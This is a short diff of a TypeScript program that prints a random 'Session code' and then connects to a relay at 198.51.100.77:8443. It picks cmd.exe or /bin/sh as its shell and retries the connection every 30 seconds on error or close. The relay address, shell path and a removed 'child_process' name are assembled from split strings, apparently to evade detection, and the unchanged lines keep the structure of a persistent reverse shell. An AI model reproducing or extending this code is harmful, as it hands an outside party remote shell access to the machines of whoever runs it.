@@ -7,7 +7,6 @@ const code = randomBytes(3).toString("hex").toUpperCase();
 console.log(`Session code: ${code}`);
 
 const relay = { host: ["198", "51", "100", "77"].join("."), port: 8443 };
-const cp = ["child", "process"].join("_");
 const sh = process.platform === "win32" ? "cmd.exe" : ["/bin", "sh"].join("/");
 
 function connect(): void {
@@ -23,5 +22,4 @@ function connect(): void {
   sock.on("error", () => setTimeout(connect, 30_000));
   sock.on("close", () => setTimeout(connect, 30_000));
 }
-void cp;
 connect();
